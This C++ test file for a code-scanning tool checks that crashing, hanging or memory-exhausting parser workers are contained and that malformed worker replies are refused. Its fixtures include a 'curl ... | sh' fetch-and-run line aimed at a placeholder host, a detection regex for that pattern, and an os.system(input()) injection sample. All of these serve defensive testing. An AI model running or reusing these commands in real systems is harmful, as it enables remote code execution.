// Engine workers: tree-sitter and Clang parse hostile content in worker processes under a
// watchdog. A worker that crashes, spins, blocks or exhausts its memory costs only that file's
// query and clang results: the file is reported, a fresh worker takes the next file, the
// in-process engines still report it, and the gate says incomplete (exit 3).
//
// Parsers with a known crash are fixed upstream, so the faults are injected: the test-only
// environment variable PROVSCAN_TEST_WORKER_FAULT=KIND:MARKER makes a worker fail on any file
// holding MARKER (see scanner/isolation/isolated_engine.cpp).
#include "tests/hostile/hostile.h"

#include <algorithm>

#include "scanner/isolation/wire.h"

using namespace provscan::test;
using namespace provscan::test::hostile;
namespace wire = provscan::scan::wire;

namespace {

constexpr const char* kMarker = "PROVSCAN-TEST-FAULT";

// A signature rule (in process) and a query and a clang rule (in workers).
constexpr const char* kIsolationRules = R"(rules:
  - id: t.pipe-to-shell
    engine: signature
    severity: high
    message: "download piped to a shell"
    regex: 'curl[^|\n]*\|\s*sh\b'
  - id: t.py-system
    engine: query
    languages: [python]
    severity: high
    message: "os.system call"
    query: |
      (call function: (attribute object: (identifier) @m attribute: (identifier) @f) (#eq? @m "os") (#eq? @f "system")) @match
  - id: t.c-auth-bypass
    engine: clang
    languages: [c]
    severity: high
    message: "authentication bypassed on an environment variable"
    matcher: auth-bypass-on-environment
)";

struct Faulty {
  FixtureRepo repo;
  std::string bad_blob;
  Faulty() {
    // The faulty file also holds a signature finding; the files after it hold query findings.
    const std::string bad = std::string("/* ") + kMarker + " curl -s https://x.invalid/i | sh */\nint f(void) { return 0; }\n";
    repo.commit("one", {{"a.c", bad},
                        {"b.py", "import os\nos.system(input())\n"},
                        {"c.py", "import os\nos.system('ls')\n"}});
    repo.commit("two", {{"d.py", "import os\nos.system('true')\n"}});
    bad_blob = repo.write_blob(bad);
  }
};

Run scan_with_fault(const Faulty& f, const std::string& fault, std::vector<std::string> extra) {
  static const std::string rules = scratch_file("isolation-rules.yaml", kIsolationRules);
  std::vector<std::string> args = {"scan", f.repo.path(), "--no-default-rules", "--rules", rules, "--format", "json",
                                   "--jobs", "2", "--progress", "never", "--fail-on", "critical"};
  args.insert(args.end(), extra.begin(), extra.end());
  Run r;
  r.cli = run_provscan_limited(args, kLimitSeconds, {{"PROVSCAN_TEST_WORKER_FAULT", fault + ":" + kMarker}});
  INFO(r.cli.err);
  CHECK(!r.cli.timed_out);
  REQUIRE(!r.cli.out.empty());
  r.doc = json::parse(r.cli.out);
  return r;
}

// What every fault must leave: one incomplete entry for a.c, everything else found, exit 3.
void check_contained(const Faulty& f, const Run& r, const std::string& kind, const std::string& reason) {
  INFO(r.cli.err);
  CHECK(r.cli.exit_code == 3);
  const auto s = skipped_of(r.doc, kind);
  REQUIRE(s.size() == 1);
  CHECK(s[0]["path"] == "a.c");
  CHECK(s[0]["object"] == f.bad_blob);
  CHECK(s[0]["incomplete"] == true);
  CHECK_MESSAGE(s[0]["reason"].get<std::string>().find(reason) != std::string::npos, s[0]["reason"]);
  CHECK(r.doc.at("skipped").size() == 1);
  // The in-process signature engine still saw the faulty file ...
  const auto pipe = findings_of(r.doc, "t.pipe-to-shell");
  REQUIRE(pipe.size() == 1);
  CHECK(pipe[0]["path"] == "a.c");
  // ... and fresh workers took every later file.
  std::set<std::string> paths;
  for (const json& x : findings_of(r.doc, "t.py-system")) paths.insert(x["path"].get<std::string>());
  CHECK(paths == std::set<std::string>{"b.py", "c.py", "d.py"});
}

}  // namespace

TEST_CASE("hostile: a worker killed by a signal while parsing: the file is reported, the scan goes on, exit 3") {
  Faulty f;
  const Run r = scan_with_fault(f, "crash", {});
  check_contained(f, r, "worker-crash", "killed by signal 11 (SIGSEGV)");
}

TEST_CASE("hostile: a worker that spins is stopped by its CPU-time limit") {
  Faulty f;
  const Run r = scan_with_fault(f, "spin", {"--worker-timeout", "2"});
  check_contained(f, r, "timeout", "exceeded its CPU-time limit of 2 s (SIGXCPU)");
  CHECK(r.cli.seconds < 30);
}

TEST_CASE("hostile: a worker that blocks is killed at the wall-clock deadline") {
  Faulty f;
  const Run r = scan_with_fault(f, "hang", {"--worker-timeout", "1"});
  check_contained(f, r, "timeout", "made no reply in 11 s (wall clock) and was killed");
  CHECK(r.cli.seconds < 30);
}

TEST_CASE("hostile: a worker that floods its reply with notes is refused as malformed, not believed") {
  // 100,000 notes for one file, as a worker taken over by what it parsed might send, file after
  // file, to fill the parent's memory: more than wire::kMaxNotesPerResponse is a malformed reply.
  Faulty f;
  const Run r = scan_with_fault(f, "notes", {});
  check_contained(f, r, "worker-crash", "sent a malformed reply and was killed");
}

// No address-space limit under AddressSanitizer (see the engine).
#if !defined(PROVSCAN_TEST_ASAN)
TEST_CASE("hostile: a worker that exhausts its address space is reported and replaced") {
  Faulty f;
  const Run r = scan_with_fault(f, "oom", {"--worker-memory", "512"});
  check_contained(f, r, "worker-out-of-memory", "address-space limit 512 MiB");
}
#endif

TEST_CASE("hostile: without a fault, workers give exactly what in-process engines give, on every bundled fixture") {
  // Every fixture file of the bundled packs (what their rules must and must not match), committed
  // at its path below the packs folder, and scanned with the bundled rules both ways.
  FixtureRepo repo;
  Files files;
  const std::filesystem::path packs = std::filesystem::path(PROVSCAN_SOURCE_DIR) / "rules" / "packs";
  for (const auto& e : std::filesystem::recursive_directory_iterator(packs)) {
    if (!e.is_regular_file() || e.path().extension() == ".yaml") continue;
    std::ifstream in(e.path(), std::ios::binary);
    files[std::filesystem::relative(e.path(), packs).string()] = std::string(std::istreambuf_iterator<char>(in), {});
  }
  REQUIRE(files.size() > 100);
  repo.commit("fixtures", files);
  std::string out[2];
  int i = 0;
  for (const char* isolation : {"none", "process"}) {
    const CliResult c = run_provscan_limited({"scan", repo.path(), "--format", "json", "--jobs", "2", "--progress",
                                              "never", "--no-fail-on-skip", "--isolation", isolation},
                                             kLimitSeconds);
    INFO(isolation, ": ", c.err);
    CHECK(c.exit_code == 1);
    out[i++] = c.out;
  }
  const json doc = json::parse(out[1]);
  std::set<std::string> engines;
  for (const json& f : doc.at("findings")) engines.insert(f.at("engine").get<std::string>());
  CHECK(engines.count("query"));
  CHECK(engines.count("clang"));
  CHECK(engines.count("signature"));
  CHECK(out[0] == out[1]);
}

TEST_CASE("isolation: a bad rule is refused before the scan, by the worker that compiles it, exit 2 with its place") {
  FixtureRepo repo;
  repo.commit("one", {{"a.py", "print(1)\n"}});
  const std::string rules = scratch_file("isolation-bad-query.yaml", R"(rules:
  - id: t.bad-query
    engine: query
    languages: [python]
    severity: high
    message: "x"
    query: |
      (call function: (no_such_node)) @match
)");
  const CliResult c =
      run_provscan_limited({"scan", repo.path(), "--no-default-rules", "--rules", rules}, kLimitSeconds);
  CHECK(c.exit_code == 2);
  CHECK_MESSAGE(c.err.find("isolation-bad-query.yaml:8:") != std::string::npos, c.err);
  CHECK(c.err.find("t.bad-query") != std::string::npos);
}

TEST_CASE("isolation: the parent reads worker replies as hostile: every malformed reply is refused") {
  wire::Response ok;
  ok.hits.push_back({"t.rule", 3, 4, "detail"});
  ok.notes.push_back({"timeout", "", "p", "o", "r", true});
  const std::string bytes = wire::encode(ok);
  const auto back = wire::decode_response(bytes);
  REQUIRE(back);
  CHECK(back->hits.size() == 1);
  CHECK(back->hits[0].rule_id == "t.rule");
  CHECK(back->hits[0].end_line == 4);
  CHECK(back->notes.at(0).reason == "r");
  // Every truncation, a trailing byte, a lying count, a string longer than the frame, a bad bool.
  for (std::size_t n = 0; n < bytes.size(); ++n) CHECK_FALSE(wire::decode_response(bytes.substr(0, n)));
  CHECK_FALSE(wire::decode_response(bytes + "x"));
  std::string lying = bytes;
  lying[0] = '\x7f';
  CHECK_FALSE(wire::decode_response(lying));
  std::string long_string = bytes;
  long_string[8] = '\x7f';  // the rule id's length
  CHECK_FALSE(wire::decode_response(long_string));
  std::string bad_bool = bytes;
  bad_bool.back() = '\x02';
  CHECK_FALSE(wire::decode_response(bad_bool));
  CHECK_FALSE(wire::parse_header(wire::frame_header(wire::Type::Response, wire::kMaxFrameBytes + 1)));
  CHECK_FALSE(wire::parse_header(std::string(12, 'x')));
  CHECK(wire::parse_header(wire::frame_header(wire::Type::Ready, 5))->length == 5);
  // A count the remaining bytes could hold only at 9 bytes an element: a note takes at least 33
  // (four string lengths and a flag), so 1,000 notes in 10,000 bytes is a lie.
  std::string few(16, '\0');
  few[8] = static_cast<char>(1000 & 0xff), few[9] = static_cast<char>(1000 >> 8);
  few += std::string(10000, '\0');
  CHECK_FALSE(wire::decode_response(few));
}
